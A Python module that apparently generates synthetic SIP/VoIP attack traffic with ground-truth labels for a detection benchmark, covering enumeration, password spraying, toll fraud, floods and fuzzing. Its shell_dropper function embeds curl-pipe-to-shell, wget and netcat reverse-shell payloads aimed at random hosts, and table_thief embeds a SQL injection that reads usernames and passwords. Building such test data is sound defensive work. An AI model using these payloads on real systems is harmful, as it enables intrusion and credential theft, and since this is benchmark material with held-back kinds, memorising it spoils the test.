"""Those who attack a network in the field, each by what its program and its purpose make it do.

Some seeds and kinds are kept out of development by `is_held_back`; `measure.py --held-back` takes them too.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Callable

from .field import Field, office, people
from .programs import MAKES, PROBE, SIPP, SIPVICIOUS, script, tool
from .strangers import KINDS as STRANGERS
from .strangers import PEOPLE
from .world import DAY, HOUR, START, Truth, World


def is_held_back(name: str) -> bool:
    """Whether a seed or kind is for the last measurement only: one in four, by a hash of its name."""
    return hashlib.sha256(f"kept: {name}".encode()).digest()[0] % 4 == 0


def _pace(rng: random.Random, *choices: float) -> Callable[[], float]:
    step = rng.choice(choices)
    return lambda: step * rng.uniform(0.7, 1.3)


def _begin(rng: random.Random) -> float:
    return START + rng.uniform(0, 4 * DAY)


def war_dialler(f: Field) -> Truth:
    """svwar: which extensions answer otherwise?"""
    rng = f.random
    ip, time, method = f.world.address(), _begin(rng), rng.choice(("REGISTER", "OPTIONS", "INVITE"))
    program = rng.choice((SIPVICIOUS, SIPVICIOUS.named("eyeBeam release 3006o"), tool(rng)))
    first = rng.choice((100, 1000, 200, 6000))
    for n in range(rng.randint(60, 400)):
        f.ask(time, ip, program, method, str(first + n), caller=str(first + n), body=b"")
        time += rng.uniform(0.02, 0.4)
    return Truth("war_dialler", {ip}, {"reconnaissance"}, {"enumeration"})


def shared_list(f: Field) -> Truth:
    """A botnet that parts a list of users among its members: no two ask for the same."""
    rng = f.random
    ips, program, begin = f.addresses(rng.randint(4, 15)), script(rng), _begin(rng)
    first, each, step = rng.choice((100, 1000, 5000)), rng.randint(15, 40), _pace(rng, 1, 20, 120)
    for n, ip in enumerate(ips):
        time = begin + rng.uniform(0, 60)
        for user in range(first + n * each, first + (n + 1) * each):
            f.ask(time, ip, program, "REGISTER", str(user))
            time += step()
    return Truth("shared_list", set(ips), {"reconnaissance"}, {"enumeration"})


def password_guesser(f: Field) -> Truth:
    """svcrack and its like, against one or three accounts, from one address or several at once."""
    rng = f.random
    ips, program, time = f.addresses(rng.choice((1, 1, 4, 9))), tool(rng), _begin(rng)
    users, step = [f.account()[0] for _ in range(rng.choice((1, 3)))], _pace(rng, 0.2, 2)
    for n in range(rng.randint(100, 400)):
        f.register(time, ips[n % len(ips)], program, rng.choice(users), f"guess{n}", cseq=program.cseq)
        time += step()
    return Truth("password_guesser", set(ips), {"credential_theft"}, {"brute_force"})


def slow_sprayer(f: Field) -> Truth:
    """One password a round for every user, over fifty addresses, hours between rounds."""
    rng = f.random
    ips, program, begin = f.addresses(rng.randint(30, 50)), script(rng), _begin(rng)
    users = [str(1000 + n) for n in range(rng.randint(60, 120))]
    for round_ in range(rng.randint(2, 4)):
        rng.shuffle(users)
        for n, user in enumerate(users):
            ip = ips[(n + round_) % len(ips)]
            f.register(
                begin + round_ * 5 * HOUR + n * 90 * rng.uniform(0.7, 1.3),
                ip,
                program,
                user,
                f"Winter{round_}",
                cseq=program.cseq,
            )
    return Truth("slow_sprayer", set(ips), {"credential_theft"}, {"spraying"})


def stuffer(f: Field) -> Truth:
    """A list of stolen names and passwords, each pair once."""
    rng = f.random
    ips, program, time = f.addresses(rng.choice((1, 3, 8))), tool(rng), _begin(rng)
    given, family = (
        ("anna", "max", "lee", "omar", "ines", "paul", "tara", "joe"),
        ("berg", "cruz", "ito", "khan", "lund", "moss", "roy", "west"),
    )
    users = sorted(
        {
            f"{rng.choice(given)}.{rng.choice(family)}{rng.choice(('', rng.randint(1, 99)))}"
            for _ in range(rng.randint(60, 150))
        }
    )
    rng.shuffle(users)
    step = _pace(rng, 0.5, 5, 30)
    for n, user in enumerate(users):
        f.register(time, ips[n % len(ips)], program, user, "leaked", cseq=program.cseq)
        time += step()
    return Truth("stuffer", set(ips), {"credential_theft"}, {"credential_stuffing"})


def taker(f: Field) -> Truth:
    """Guesses a password, is let in, and calls where it pays."""
    rng = f.random
    ip, program, time, (user, password) = f.world.address(), tool(rng), _begin(rng), f.account()
    for n in range(rng.randint(40, 200)):
        f.register(time, ip, program, user, f"guess{n}", cseq=program.cseq)
        time += rng.uniform(0.3, 2)
    f.register(time, ip, program, user, password, cseq=program.cseq)
    # Bots start calling when they have checked what they got.
    time += rng.uniform(300, 20000)
    area = rng.choice(("00252615", "0088216", "0037178", "009603"))
    for _ in range(rng.randint(40, 90)):
        f.dial(time, ip, program, user, area + str(rng.randrange(10**4, 10**6)), password)
        time += rng.uniform(10, 60)
    return Truth("taker", {ip}, {"credential_theft", "toll_fraud"}, {"account_takeover", "toll_fraud"})


def account_thief(f: Field) -> Truth:
    """Has the password already."""
    rng = f.random
    home, phone, (user, password) = f.world.address(), rng.choice(MAKES), f.account()
    f.stay(home, phone, user, password, START, START + 4 * DAY, 3000)
    f.world.legitimate.add(home)
    ip, program, time = (
        f.world.address(),
        rng.choice((tool(rng), rng.choice(MAKES))),
        START + DAY + rng.uniform(0, 2 * DAY),
    )
    f.register(time, ip, program, user, password)
    for _ in range(rng.randint(60, 300)):
        time += rng.uniform(5, 40)
        f.dial(
            time,
            ip,
            program,
            user,
            rng.choice(("0088299", "00232", "0053")) + str(rng.randrange(10**6, 10**7)),
            password,
        )
    return Truth("account_thief", {ip}, {"toll_fraud"}, {"toll_fraud"})


def prefix_finder(f: Field) -> Truth:
    """Which prefix leads out? One number behind many; from an address that changes when it is shut out."""
    rng = f.random
    ips, program, time = f.addresses(rng.choice((1, 2, 5))), tool(rng), _begin(rng)
    number = rng.choice(("972592", "442037", "48221", "33170")) + str(rng.randrange(10**5, 10**6))
    prefixes = [p + q for p in ("", "9", "0", "1", "99", "*", "8", "77") for q in ("00", "011", "+", "000", "0011")]
    rng.shuffle(prefixes)
    prefixes = prefixes[: rng.randint(20, 40)]
    step = _pace(rng, 2, 40, 400)
    for n, prefix in enumerate(prefixes):
        ip = ips[n * len(ips) // len(prefixes)]
        f.ask(
            time,
            ip,
            program,
            "INVITE",
            prefix + number,
            caller=rng.choice(("100", "1001", "admin")),
            port=rng.choice((5060, 5071)),
        )
        time += step()
    return Truth("prefix_finder", set(ips), {"toll_fraud"}, {"toll_fraud"})


def swarm(f: Field) -> Truth:
    """A botnet that floods: each member a little, all together too much."""
    rng = f.random
    ips, program, begin = f.addresses(rng.randint(15, 40)), script(rng), _begin(rng)
    method = rng.choice(("INVITE", "OPTIONS", "INVITE"))
    for ip in ips:
        time = begin + rng.uniform(0, 20)
        for _ in range(rng.randint(40, 70)):
            f.ask(time, ip, program, method, str(rng.randint(1, 9999)), caller=str(rng.randint(1, 9999)))
            time += rng.uniform(0.5, 3)
    return Truth("swarm", set(ips), {"denial_of_service"}, {"distributed_flood"})


def load_test(f: Field) -> Truth:
    """SIPp, as fast as it goes, against one extension."""
    rng = f.random
    ip, time, program = f.world.address(), _begin(rng), rng.choice((SIPP, script(rng)))
    for _ in range(rng.randint(400, 1200)):
        f.ask(time, ip, program, "INVITE", "service", caller="sipp")
        time += rng.uniform(0.01, 0.06)
    return Truth("load_test", {ip}, {"denial_of_service"}, {"flood"})


def forger(f: Field) -> Truth:
    """A flood in the names of strangers, some of them customers."""
    rng = f.random
    ips, program, time = f.addresses(rng.randint(80, 200)), script(rng), _begin(rng)
    names = ips + rng.sample(sorted(f.world.legitimate), 4)
    for _ in range(2 * len(names)):
        name = rng.choice(names)
        f.ask(time, name, program, "INVITE", str(rng.randint(100, 999)), port=rng.randint(1024, 65000))
        f.world.forged[name] += name in f.world.legitimate
        time += 0.02
    seen = {message.ip for message in f.world.messages}
    return Truth("forger", set(ips) & seen, {"denial_of_service"}, {"spoofed_flood"}, spoofed=True)


def shell_dropper(f: Field) -> Truth:
    """One payload from ever new addresses, the host in it changing with each."""
    rng = f.random
    ips, program, begin = f.addresses(rng.choice((1, 3, 5))), tool(rng), _begin(rng)
    name = f"/{rng.randbytes(3).hex()}.sh"
    form = rng.choice(("$(curl -s http://{}" + name + "|sh)", "`wget -qO- {}" + name + "`", "; nc {} 4444 -e /bin/sh"))
    for n, ip in enumerate(ips):
        host = ".".join(str(rng.randint(1, 250)) for _ in range(4))
        for m in range(rng.randint(2, 6)):
            f.ask(
                begin + n * 3 * HOUR + m * 20,
                ip,
                program,
                rng.choice(("INVITE", "REGISTER")),
                "100",
                payload=form.format(host),
            )
    return Truth("shell_dropper", set(ips), {"remote_code_execution"}, {"injection"})


def table_thief(f: Field) -> Truth:
    """SQL in a name."""
    rng = f.random
    ip, program, time = f.world.address(), tool(rng), _begin(rng)
    for n in range(rng.randint(3, 12)):
        f.ask(
            time + n * 30,
            ip,
            program,
            "REGISTER",
            "100",
            payload=f"x' UNION SELECT {n},username,password FROM subscriber-- ",
        )
    return Truth("table_thief", {ip}, {"credential_theft"}, {"injection"})


def mover(f: Field) -> Truth:
    """One attacker, a new address every day or two; names itself anew as well."""
    rng = f.random
    ips, program, begin = f.addresses(rng.randint(3, 5)), script(rng), START + rng.uniform(0, HOUR)
    first = rng.choice((100, 2000, 7000))
    for n, ip in enumerate(ips):
        time, own = begin + n * 1.3 * DAY, program.named(rng.choice(("", "A1", "Q", "voip", program.agent)))
        for user in range(first + 40 * n, first + 40 * n + rng.randint(25, 40)):
            f.ask(time, ip, own, "REGISTER", str(user))
            time += rng.uniform(1, 5)
    return Truth("mover", set(ips), {"reconnaissance"}, {"enumeration", "mover"})


def breaker(f: Field) -> Truth:
    """A fuzzer."""
    rng = f.random
    ip, program, time = f.world.address(), tool(rng), _begin(rng)
    for n in range(rng.randint(20, 60)):
        change = (
            (b"SIP/2.0\r\n", b"SIP/9.9\r\n"),
            (b"CSeq:", b"CSeq: x"),
            (b"Content-Length:", b"Content-Length: -1"),
            (b"Via:", b"Via: ;;"),
            (b"To:", b"To: <<"),
        )[n % 5]
        f.ask(time, ip, program, rng.choice(("INVITE", "OPTIONS")), "100", change=change, drop=True)
        time += rng.uniform(1, 30)
    return Truth("breaker", {ip}, {"denial_of_service"}, {"fuzzing"})


def sweeper(f: Field) -> Truth:
    """Is there a SIP server at all? The same probe again and again."""
    rng = f.random
    ip, program, time = f.world.address(), rng.choice((PROBE, SIPVICIOUS)), _begin(rng)
    for _ in range(rng.randint(4, 20)):
        f.ask(time, ip, program, "OPTIONS", "", port=rng.randint(5060, 5090))
        time += rng.uniform(60, 9000)
    return Truth("sweeper", {ip}, {"reconnaissance"}, {"scan"})


def guest(f: Field) -> Truth:
    """Guesses passwords from behind an office's address."""
    rng = f.random
    office(f)
    ip = next(reversed([message.ip for message in f.world.messages]))
    f.world.legitimate.discard(ip)
    program, time, user = tool(rng), START + 5 * HOUR, f.account()[0]
    for n in range(rng.randint(80, 200)):
        f.register(time, ip, program, user, f"guess{n}", 33000, cseq=program.cseq)
        time += rng.uniform(0.3, 1)
    return Truth("guest", {ip}, {"credential_theft"}, {"brute_force"})


KINDS = (war_dialler, shared_list, password_guesser, slow_sprayer, stuffer, taker, account_thief, prefix_finder, swarm, load_test, forger,
         shell_dropper, table_thief, mover, breaker, sweeper, guest)  # fmt: skip


def make(seed: int, scale: int = 1, answers: bool = True, held_back: bool = False, strangers: bool = False) -> World:
    """The network of a seed; `held_back` takes the kinds of attackers that development does not see, too.

    With `strangers` those are in it who act by other principles, instead of the usual attackers.
    """
    world = World(seed)
    world.with_replies = answers
    f = Field(world, scale=scale)
    people(f)
    if strangers:
        for neighbours in PEOPLE:
            neighbours(f)
    for kind in STRANGERS if strangers else KINDS:
        if held_back or not is_held_back(kind.__name__):
            for _ in range(scale):
                world.attackers.append(kind(f))
    return world
